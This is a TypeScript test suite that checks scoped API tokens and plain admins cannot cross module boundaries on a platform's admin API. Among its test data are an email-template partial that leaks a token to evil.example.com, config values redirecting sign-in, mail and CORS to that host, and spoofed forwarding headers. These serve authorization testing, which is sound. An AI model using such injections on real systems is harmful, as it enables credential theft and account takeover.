/**
 * A narrow token stays narrow by every door (CWE-863): asked of every admin operation that there is, with a token
 * narrowed to each module, and with the exact requests of the security review of 2026-11-22 (F5).
 */
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Api, Json } from '../test/support/api.ts';
import { compare, input, location, operation } from '../test/support/endpoints.ts';
import { liftLimits } from '../test/support/permissions.ts';
import { createTestPlatform, type TestPlatform } from '../test/support/platform.ts';
import { waitFor } from '../test/support/wait-for.ts';
import { type DescribedOperation, describedOperations } from './fuzz/operations.ts';
import { createSender, requestsTo } from './fuzz/request.ts';

const modules = [
  'core',
  'router',
  'communications',
  'database',
  'authentication',
  'authorization',
  'forms',
] as const;
/** Parts that belong to no module: every token may use them, and what they lead to is asked for itself. */
const common = ['docs', 'mcp'];
const runsPerOperation = 3;

let platform: TestPlatform;
/** Those that a token of operators opens. */
let adminOperations: readonly DescribedOperation[];
beforeAll(async () => {
  platform = await createTestPlatform({ env: { TRUSTED_PROXIES: '127.0.0.1' } });
  await liftLimits(platform.admin);
  await platform.admin.patch('/config/authentication', { teams: { enabled: true } });
  await platform.createSchema({
    name: 'Note',
    fields: { title: { type: 'String' }, author: { type: 'Relation', model: 'User' } },
  });
  adminOperations = (await describedOperations('admin', platform.admin)).filter(({ credentials }) =>
    credentials.includes('apiToken'),
  );
});
afterAll(() => platform.close());

const tokenOf = async (...scopes: string[]): Promise<string> =>
  (await platform.admin.post('/api-tokens', { name: scopes.join(), scopes })).body.token;
const narrowed = async (...scopes: string[]): Promise<Api> =>
  platform.adminAnonymous.with({ credential: await tokenOf(...scopes) });
const codeOf = async (
  answer: Promise<{ readonly status: number; readonly body: Json }>,
): Promise<unknown> => {
  const { status, body } = await answer;
  return `${status} ${body?.code}`;
};
const exceeded = '403 SCOPE_EXCEEDED';

const moduleOf = ({ operation }: DescribedOperation): string => operation.split('.', 1)[0] ?? '';

/** What belongs to the other modules, as an operator sees it. */
async function fingerprint(module: string): Promise<unknown> {
  // A schema with row authorization brings the definition of its type.
  const others = modules.filter(
    (one) => one !== module && !(module === 'database' && one === 'authorization'),
  );
  const state = await platform.admin.get('/state/export', { query: { modules: others.join() } });
  const users = await platform.admin.get('/authentication/users');
  const templates = await platform.admin.get('/email/templates');
  const schemas = await platform.admin.get('/database/schemas/system');
  const view = { state: state.body, schemas: schemas.body };
  return {
    ...view,
    ...(module === 'authentication' ? {} : { users: users.body }),
    ...(module === 'communications' ? {} : { templates: templates.body }),
  };
}

describe('a token that is narrowed to one module', () => {
  it.each(modules)(
    '%s: uses no operation of another module',
    { timeout: 120_000 },
    async (module) => {
      const api = await narrowed(module, 'write');
      const foreign = adminOperations.filter((one) => ![module, ...common].includes(moduleOf(one)));
      expect(foreign.length).toBeGreaterThan(20);
      const wrong: string[] = [];
      for (const { method, path, operation } of foreign) {
        const answer = await api.send(
          method as 'GET',
          path.replaceAll(/\{\w+\}/g, 'User'),
          method === 'GET' ? undefined : {},
        );
        if (answer.status !== 403 || answer.body.code !== 'SCOPE_EXCEEDED')
          wrong.push(`${operation}: ${answer.status} ${answer.body?.code}`);
      }
      expect(wrong).toEqual([]);
    },
  );

  it.each(modules)(
    '%s: changes nothing of another module, whatever it sends',
    { timeout: 240_000 },
    async (module) => {
      const credential = await tokenOf(module, 'write');
      const before = await fingerprint(module);
      const sender = createSender(platform.addresses.admin);
      const names = (await platform.admin.get('/database/schemas', { query: { limit: 100 } })).body
        .schemas as Json[];
      const ofModules = names.filter(({ ownerModule }) => ownerModule !== module);
      const schemaNames = ofModules.map(({ name }) => name as string);
      const ids = ofModules.map(({ _id }) => _id as string);
      const others = modules.filter((one) => one !== module);
      const routes = ['/authentication/local', '/admins', '/database/schemas', '/config/:module'];
      const dictionary = new Map<string, readonly unknown[]>([
        ['module', [...others, 'admin'].filter((one) => module !== 'core' || one !== 'admin')],
        ['modules', [Object.fromEntries(others.map((one) => [one, {}]))]],
        ...['schemaName', 'schemaId', 'selectedSchemaName', 'name'].map(
          (name) => [name, schemaNames] as const,
        ),
        ...['id', 'selectedSchema'].map((name) => [name, [...ids, ...schemaNames]] as const),
        ['ids', [ids]],
        ['path', routes],
        ['action', ['POST', 'PATCH']],
        ['resource', ['Team:1', 'User:1']],
        ['resourceType', ['Team', 'User']],
      ]);
      let serial = 0;
      try {
        for (const operation of adminOperations.filter(
          (one) => moduleOf(one) === module && one.method !== 'GET',
        )) {
          for (const one of fc.sample(requestsTo(operation, dictionary), {
            numRuns: runsPerOperation,
            seed: 7,
          })) {
            serial += 1;
            const address = `10.0.${serial >> 8}.${serial % 256}`;
            const { status } = await sender.send(operation.method, {
              ...one,
              headers: { ...one.headers, credential, 'x-forwarded-for': address },
            });
            if (status === 401 || status === 429)
              throw new Error(`${operation.operation} was not asked: ${status}`);
          }
        }
      } finally {
        sender.close();
      }
      expect(await fingerprint(module)).toEqual(before);
    },
  );
});

describe('a custom endpoint', () => {
  it('leads through no schema of a module that its author does not reach', async () => {
    const fields = { holder: { type: 'Relation', model: 'User' }, title: 'String' } as const;
    await platform.createSchema({ name: 'Badge', fields });
    const endpoint = (name: string, ...compared: readonly Json[]): Json => ({
      name,
      operation: operation.aggregate,
      selectedSchemaName: 'Badge',
      inputs: [input('asked', 'String', location.query)],
      query: { AND: compared },
      aggregate: { groupBy: [], values: [{ as: 'n', function: 'count' }] },
    });
    const own = compare('title', 0, ['Input', 'asked']);
    const oracle = endpoint('holders', own, compare('holder.email', 0, ['Input', 'asked']));
    const database = await narrowed('database', 'write');
    const path = '/database/customEndpoints';
    const made = await database.post(path, endpoint('titles', own));
    expect(made.status, made.text).toBe(200);
    const refused = { status: 403, body: { code: 'SCOPE_EXCEEDED' } };
    expect(await database.post(path, oracle)).toMatchObject(refused);
    expect(await database.post(`${path}/import`, { endpoints: [oracle] })).toMatchObject(refused);
    expect(await database.patch(`${path}/${made.body._id}`, oracle)).toMatchObject(refused);
    const both = await narrowed('database', 'authentication', 'write');
    expect((await both.post(path, oracle)).status).toBe(200);

    // Who calls is known by their id; what else stands in their account is of accounts.
    const assigned = { schemaField: 'title', action: 0 };
    const context = (name: string, value: string): Json => ({
      ...{ name, operation: operation.post, selectedSchemaName: 'Badge', authentication: true },
      assignments: [{ ...assigned, assignmentField: { type: 'Context', value } }],
    });
    expect(await database.post(path, context('who', 'user.email'))).toMatchObject(refused);
    expect((await both.post(path, context('who', 'user.email'))).status).toBe(200);
    const mine = endpoint('mine', compare('title', 0, ['Context', 'user.username']));
    expect(await database.post(path, { ...mine, authentication: true })).toMatchObject(refused);
    expect((await database.post(path, context('own', 'user._id'))).status).toBe(200);
  });
});

describe('a condition that somebody else evaluates', () => {
  it('asks nothing that its author may not read', async () => {
    const fields = { holder: { type: 'Relation', model: 'User' }, title: 'String' } as const;
    await platform.createSchema({ name: 'Medal', fields });
    const { admin } = platform;
    const search = { schemaName: 'Medal', sourceFields: ['title'], targetField: 'words' };
    await admin.post('/embeddings/configs', { ...search, provider: 'none' });
    const hook = (name: string, condition: Json) => ({
      ...{ name, condition, url: 'https://example.com/', events: ['record.created'] },
      schemas: ['Medal'],
    });
    const oracle = { 'holder.email': { $like: 'a%' } };
    const narrow = await narrowed('webhooks', 'embeddings', 'database', 'write');
    const both = await narrowed('webhooks', 'embeddings', 'database', 'authentication', 'write');
    expect((await narrow.post('/webhooks/endpoints', hook('a', oracle))).status).toBe(403);
    expect((await both.post('/webhooks/endpoints', hook('b', oracle))).status).toBe(200);
    const secret = hook('c', { 'holder.hashedPassword': { $like: '$argon2id%' } });
    expect((await admin.post('/webhooks/endpoints', secret)).status).toBe(400);
    const run = { schemaName: 'Medal', filter: oracle };
    expect((await narrow.post('/embeddings/backfills', run)).status).toBe(403);
    expect((await both.post('/embeddings/backfills', run)).status).not.toBe(403);
  });
});

describe('configuration', () => {
  const provider = {
    externalSignIn: { allowInternalAddresses: true },
    oidc: {
      evil: { enabled: true, clientId: 'c', clientSecret: 's', issuer: 'http://127.0.0.1:7178' },
    },
  };

  it('of another module is not changed with a token for core (F5)', async () => {
    const core = await narrowed('core', 'write');
    const version = (await platform.admin.get('/config/authentication')).body.version;
    const lockout = { modules: { authentication: { lockout: { failures: 10 } } } };
    expect(await codeOf(core.patch('/config/authentication', { config: provider }))).toBe(exceeded);
    expect(await codeOf(core.put('/config/authentication', { config: provider }))).toBe(exceeded);
    expect(await codeOf(core.post('/config/import', { config: lockout }))).toBe(exceeded);
    expect(await codeOf(core.post('/config/authentication/rollback', { version: 1 }))).toBe(
      exceeded,
    );
    expect(await codeOf(core.post('/state/import', { configs: lockout }))).toBe(exceeded);
    expect(await codeOf(core.post('/state/import?dryRun=true', { configs: lockout }))).toBe(
      exceeded,
    );
    expect(await codeOf(core.post('/state/plan', { configs: lockout }))).toBe(exceeded);
    expect((await platform.admin.get('/config/authentication')).body.version).toBe(version);
    expect((await core.patch('/config/core', { configuration: { strict: false } })).status).toBe(
      200,
    );
    expect((await core.patch('/config/admin', { mcp: { dynamic: false } })).status).toBe(200);
  });

  it('of another module is not read either, nor its secrets', async () => {
    const core = await narrowed('core', 'write');
    for (const path of ['', '/history', '/docs', '?reveal=true']) {
      expect([path, await codeOf(core.get(`/config/communications${path}`))]).toEqual([
        path,
        exceeded,
      ]);
    }
    for (const path of ['/config', '/config?reveal=true']) {
      expect(Object.keys((await core.get(path)).body.config.modules)).toEqual(['admin', 'core']);
    }
    const exported = (await core.get('/state/export', { query: { secrets: 'include' } })).body;
    expect(Object.keys(exported.configs.modules)).toEqual(['admin', 'core']);
  });

  it('is changed with a token for both', async () => {
    const both = await narrowed('core', 'authentication', 'write');
    expect((await both.patch('/config/authentication', { lockout: { failures: 11 } })).status).toBe(
      200,
    );
  });

  it('tools of other modules are not there for agents, and refuse to be called', async () => {
    const core = await narrowed('core', 'write');
    const rpc = (method: string, params: object) =>
      core.post('/mcp?modules=all', { jsonrpc: '2.0', id: 1, method, params });
    const tools = (await rpc('tools/list', {})).body.result.tools.map(({ name }: Json) => name);
    expect(tools).toContain('patch_config_core');
    expect(tools).not.toContain('patch_config_authentication');
    expect(tools).not.toContain('post_apitokens');
    const called = await rpc('tools/call', {
      name: 'patch_config_authentication',
      arguments: { lockout: { failures: 12 } },
    });
    expect(called.body.error ?? called.body.result.isError).toBeTruthy();
    const imported = await rpc('tools/call', {
      name: 'post_state_import',
      arguments: { configs: { modules: { authentication: { lockout: { failures: 12 } } } } },
    });
    expect(imported.body.result).toMatchObject({
      isError: true,
      structuredContent: { error: { code: 'SCOPE_EXCEEDED' } },
    });
  });
});

describe('a plain admin', () => {
  let plain: Api;
  let first: Api;
  beforeAll(async () => {
    const account = { username: 'plain', password: 'Correct-Horse-43' };
    await platform.admin.post('/admins', account);
    plain = platform.adminAnonymous.with({
      authorization: `Bearer ${(await platform.admin.post('/login', account)).body.token}`,
    });
    first = platform.adminAnonymous.with({
      authorization: `Bearer ${await platform.adminLogin()}`,
    });
  });

  /** Keys that decide who may sign in or act, where data and messages go, or what is public (F8). */
  const guarded: readonly (readonly [module: string, key: string, value: unknown])[] = [
    [
      'authentication',
      'oidc.evil',
      { enabled: true, clientId: 'c', clientSecret: 's', issuer: 'https://accounts.google.com' },
    ],
    ['authentication', 'google.trustEmail', true],
    ['authentication', 'redirectUris.allowAny', true],
    ['authentication', 'redirectUris.whitelistedUris', ['https://evil.example.com/*']],
    ['authentication', 'passwords.breached.url', 'https://evil.example.com/range/'],
    ['authentication', 'lockout.failures', 100],
    ['authentication', 'twoFa.enabled', true],
    ['authentication', 'active', false],
    ['communications', 'email.transportSettings.smtp.host', 'smtp.evil.example.com'],
    ['router', 'cors.origin', 'https://evil.example.com'],
    ['router', 'hostUrl', 'https://evil.example.com'],
    ['admin', 'auth.tokenExpirationTime', 60],
    ['admin', 'docs.public', true],
    ['core', 'env', 'test'],
    ['database', 'security.defaultAuthenticated', true],
    ['authentication', 'profiles.fields', ['email']],
    ['authentication', 'profiles.visitors', true],
    ['authorization', 'recordSubjects', ['*']],
  ];

  it.each(guarded)('%s: does not change %s (F8)', async (module, key, value) => {
    const config = key.split('.').reduceRight((inner: unknown, name) => ({ [name]: inner }), value);
    const answer = await plain.patch(`/config/${module}`, { config });
    expect(answer.body).toMatchObject({ status: 403, code: 'FORBIDDEN' });
    expect(answer.body.message).toContain(`${module}.${key}`);
    const imported = await plain.post('/config/import', {
      config: { modules: { [module]: config } },
    });
    expect(imported.body.results[module].success).toBe(false);
    expect(
      (await plain.post('/state/import', { configs: { modules: { [module]: config } } })).status,
    ).toBe(403);
  });

  it('changes what is harmless, and writes back what it has read', async () => {
    expect((await plain.patch('/config/router', { graphql: { maxDepth: 9 } })).status).toBe(200);
    const { config } = (await plain.get('/config/authentication')).body;
    expect((await plain.patch('/config/authentication', { config })).status).toBe(200);
  });

  it('is not the first admin, who changes everything', async () => {
    expect(
      (await first.patch('/config/authentication', { lockout: { failures: 12 } })).status,
    ).toBe(200);
  });

  it('reads the class of each key', async () => {
    const { keys } = (await plain.get('/config/router/docs')).body;
    const classOf = (key: string) => keys.find((one: Json) => one.key === key).class;
    expect([classOf('graphql.maxDepth'), classOf('cors.origin')]).toEqual(['harmless', 'guarded']);
  });
});

describe('operators and their tokens', () => {
  it('are made with a credential without scopes only (F5)', async () => {
    const core = await narrowed('core', 'write');
    const writer = await narrowed('write');
    for (const api of [core, writer]) {
      expect(
        await codeOf(
          api.post('/admins', {
            username: 'esc',
            password: 'Battery-Staple-17',
            isSuperAdmin: true,
          }),
        ),
      ).toBe(exceeded);
      expect(await codeOf(api.post('/api-tokens', { name: 'more' }))).toBe(exceeded);
      expect(await codeOf(api.post('/authentication/services', { name: 'more' }))).toBe(exceeded);
    }
    const { token } = (await platform.admin.post('/api-tokens', { name: 'whole' })).body;
    const whole = platform.adminAnonymous.with({ credential: token });
    expect((await whole.post('/api-tokens', { name: 'narrower', scopes: ['core'] })).status).toBe(
      200,
    );
  });
});

describe('data of modules', () => {
  it('is not reached through the routes of documents, endpoints and types', async () => {
    await platform.registerUser();
    const database = await narrowed('database', 'write');
    expect(await codeOf(database.get('/database/schemas/User/docs'))).toBe(exceeded);
    expect(await codeOf(database.post('/database/schemas/User/query', { query: {} }))).toBe(
      exceeded,
    );
    expect(await codeOf(database.get('/database/schemas/User/docs/export'))).toBe(exceeded);
    const user = (
      await platform.admin.get('/database/schemas?search=User&limit=100')
    ).body.schemas.find(({ name }: Json) => name === 'User');
    expect(
      await codeOf(
        database.post(`/database/schemas/${user._id}/extensions`, {
          fields: { plan: { type: 'String' } },
        }),
      ),
    ).toBe(exceeded);
    const endpoint = { name: 'everybody', operation: 0, query: {}, inputs: [] };
    expect(
      await codeOf(
        database.post('/database/customEndpoints', { ...endpoint, selectedSchemaName: 'User' }),
      ),
    ).toBe(exceeded);
    expect(
      await codeOf(
        database.post('/database/customEndpoints', { ...endpoint, selectedSchema: user._id }),
      ),
    ).toBe(exceeded);
    const state = {
      modules: { database: { customEndpoints: [{ ...endpoint, selectedSchemaName: 'User' }] } },
    };
    const both = await narrowed('core', 'database', 'write');
    expect(await codeOf(both.post('/state/import', state))).toBe(exceeded);
    expect((await database.get('/database/schemas/Note/docs')).status).toBe(200);
    expect((await database.get('/database/schemas/Note/docs?populate=author')).status).toBe(403);
    expect((await platform.admin.get('/database/schemas/Note/docs?populate=author')).status).toBe(
      200,
    );
  });

  it('is not changed by relations and middlewares', async () => {
    const authorization = await narrowed('authorization', 'write');
    const relation = { subject: 'User:1', relation: 'owner', resource: 'Team:1' };
    expect(await codeOf(authorization.post('/authorization/relations', relation))).toBe(exceeded);
    for (const list of ['writes', 'deletes'])
      expect(
        await codeOf(authorization.post('/authorization/relations/write', { [list]: [relation] })),
      ).toBe(exceeded);
    expect(
      await codeOf(
        authorization.delete('/authorization/relations', { query: { resourceType: 'Team' } }),
      ),
    ).toBe(exceeded);
    expect(
      (await authorization.delete('/authorization/relations', { query: { subject: 'User:1' } }))
        .status,
    ).toBe(400);
    const router = await narrowed('router', 'write');
    const route = { query: { path: '/authentication/local', action: 'POST' } };
    expect(
      await codeOf(
        router.patch('/router/patch-middleware', { middlewares: ['rateLimit:1/60'] }, route),
      ),
    ).toBe(exceeded);
  });

  it('is not reached through an import of states', async () => {
    const { admin } = platform;
    await platform.createSchema({
      name: 'Attached',
      fields: { file: { type: 'Relation', model: 'File' } },
    });
    const value = '01a22744-ea28-746e-b441-3b30817baf0a';
    const link = { schemaField: 'file', action: 0, assignmentField: { type: 'Custom', value } };
    const endpoint = { name: 'attach', operation: 1, selectedSchemaName: 'Attached' };
    await admin.post('/authorization/roles', { name: 'editor' });
    const rule = { resource: 'File', action: 'read', role: 'editor' };
    const documents: readonly (readonly [string, string, Json])[] = [
      ['database', 'customEndpoints', { ...endpoint, assignments: [link] }],
      ['database', 'indexes', { schemaName: 'User', fields: ['email', 'createdAt'] }],
      ['authorization', 'rules', rule],
    ];
    for (const [module, type, document] of documents) {
      const api = await narrowed('core', module, 'write');
      const state = { modules: { [module]: { [type]: [document] } } };
      expect(await codeOf(api.post('/state/import', state)), type).toBe(exceeded);
    }
    // A rule that is there is about a type too, whether or not its change names one.
    const authorization = await narrowed('authorization', 'write');
    const { _id } = (await admin.post('/authorization/rules', rule)).body;
    const path = `/authorization/rules/${_id}`;
    expect(await codeOf(authorization.put(path, { action: 'delete' }))).toBe(exceeded);
    expect(await codeOf(authorization.delete(path))).toBe(exceeded);
    expect((await admin.put(path, { action: 'delete' })).status).toBe(200);
    expect((await admin.delete(path)).status).toBe(200);
  });

  it('is not reached by documents of states, of whatever type, before anything is written', async () => {
    const webhook = { name: 'narrow', url: 'https://example.com/', schemas: ['User'] };
    const email = { name: 'EmailVerification', subject: 's', body: 'b' };
    const code = { functionType: 'request', functionCode: 'return 1' };
    const allowed = { ...code, name: 'a_narrow_one', inputs: { method: 'GET' } };
    const owning = { relations: { owner: ['User'] }, permissions: { read: ['owner'] } };
    const list = { action: 'POST', path: '/authentication/local', middlewares: [] };
    const search = { sourceFields: ['email'], targetField: 'words', provider: 'none' };
    const extension = { fields: { nickname: { type: 'String' } } };
    const beyond: readonly (readonly [module: string, type: string, ...documents: object[]])[] = [
      ['functions', 'functions', allowed, { ...code, name: 'z', inputs: { rights: 'system' } }],
      ['router', 'routeMiddlewares', list],
      ['router', 'eventRelays', { name: 'r', busEvent: 'database:*', socketEvent: 'e' }],
      ['webhooks', 'endpoints', { ...webhook, events: ['record.created'] }],
      ['communications', 'emailTemplates', email],
      ['embeddings', 'searches', { ...search, schemaName: 'User' }],
      ['authorization', 'resourceDefinitions', { name: 'User', ...owning }],
      ['authorization', 'rules', { role: 'editor', action: 'read', resource: 'User' }],
      ['database', 'extensions', { schemaName: 'User', extension }],
      ['database', 'indexes', { schemaName: 'User', fields: ['name'] }],
      [
        'database',
        'customEndpoints',
        { name: 'all_of_them', operation: 0, selectedSchemaName: 'User' },
      ],
    ];
    for (const [module, type, ...documents] of beyond) {
      const api = await narrowed('core', module, 'write');
      const sent = { modules: { [module]: { [type]: documents } } };
      for (const path of ['/state/import', '/state/import?continueOnError=true']) {
        const answer = await api.post(path, sent);
        expect([type, answer.status, answer.body.code]).toEqual([type, 403, 'SCOPE_EXCEEDED']);
        expect(answer.body.message).toContain(`modules.${module}`);
      }
    }
    const { functions } = (await platform.admin.get('/functions')).body;
    expect(functions.map(({ name }: Json) => name)).not.toContain('a_narrow_one');
  });

  it('is neither read from messages nor changed in templates', async () => {
    const { email } = await platform.registerUser();
    await platform.client.post('/authentication/forgot-password', { email });
    const communications = await narrowed('communications');
    const both = await narrowed('communications', 'authentication');
    const query = { recipient: email, template: 'ForgotPassword', status: 'captured' };
    const [message] = await waitFor(async () => {
      const { messages } = (await communications.get('/communications/messages', { query })).body;
      return messages.length > 0 ? messages : undefined;
    });
    const path = `/communications/messages/${message._id}`;
    expect(await codeOf(communications.get(path))).toBe(exceeded);
    expect((await both.get(path)).body.content.text).toContain('password');

    const named = { query: { search: 'ForgotPassword' } };
    const [template] = (await platform.admin.get('/email/templates', named)).body.templateDocuments;
    const address = `/email/templates/${template._id}`;
    const body = `${template.body}{{> stolen}}`;
    expect(await codeOf(communications.patch(address, { body }))).toBe(exceeded);
    expect(await codeOf(communications.delete(address))).toBe(exceeded);
    const text = { body: '<img src="https://evil.example.com/{{token}}">' };
    expect((await communications.put('/communications/partials/stolen', text)).status).toBe(200);
    expect((await communications.put('/communications/partials/outer', text)).status).toBe(200);
    await both.put('/communications/partials/outer', { body: '{{> stolen}}' });
    expect((await both.patch(address, { body: `${template.body}{{> outer}}` })).status).toBe(200);
    for (const part of ['outer', 'stolen']) {
      const partial = `/communications/partials/${part}`;
      expect(await codeOf(communications.put(partial, text))).toBe(exceeded);
      expect(await codeOf(communications.delete(partial))).toBe(exceeded);
    }
    expect((await communications.put('/communications/partials/other', text)).status).toBe(200);
    expect((await both.delete(address)).status).toBe(200);
  });

  it('is not among the files of a token for storage', async () => {
    const file = { container: 'module-forms', name: 'kept.txt', data: btoa('of a visitor') };
    const { _id } = (await platform.admin.post('/storage/files', file)).body;
    const storage = await narrowed('storage');
    const both = await narrowed('storage', 'forms');
    const list = { query: { container: 'module-forms', limit: 10 } };
    expect((await storage.get('/storage/files', list)).body.files).toEqual([]);
    expect((await both.get('/storage/files', list)).body.files).toMatchObject([{ _id }]);
    const searching = await narrowed('storage', 'embeddings');
    const found = await searching.get('/search', { query: { text: 'kept.txt', kinds: 'file' } });
    expect([found.status, found.body.results]).toEqual([200, []]);
    // Files are of storage, whatever searches them.
    const own = await narrowed('embeddings');
    const schemaName = 'File';
    const config = { schemaName, sourceFields: ['name'], targetField: 'names', provider: 'none' };
    expect((await own.post('/embeddings/configs', config)).status).toBe(403);
    const search = { schemaName, text: 'kept', mode: 'keyword' };
    expect((await own.post('/embeddings/search', search)).status).toBe(403);
    for (const path of ['', '/data', '/url'])
      expect((await storage.get(`/storage/files/${_id}${path}`)).status).toBe(403);
    expect((await storage.patch(`/storage/files/${_id}`, { isPublic: true })).status).toBe(403);
    expect((await storage.post('/storage/files', { ...file, name: 'b.txt' })).status).toBe(403);
    expect((await storage.delete(`/storage/files/${_id}`)).status).toBe(403);
    expect((await both.get(`/storage/files/${_id}`)).status).toBe(200);
    expect((await both.delete(`/storage/files/${_id}`)).status).toBe(200);
  });

  it('is left out of the audit log', async () => {
    await platform.admin.post('/email/templates', { name: 'audited', subject: 's', body: 'b' });
    await platform.admin.patch('/config/core', { configuration: { strict: false } });
    const actions = async (api: Api): Promise<string[]> =>
      [
        ...new Set<string>(
          (await api.get('/audit-logs?limit=1000')).body.entries.map(
            ({ action }: Json) => action.split('.')[0],
          ),
        ),
      ].sort();
    expect(await actions(await narrowed('core'))).toEqual(['core']);
    expect(await actions(platform.admin)).toContain('communications');
  });
});
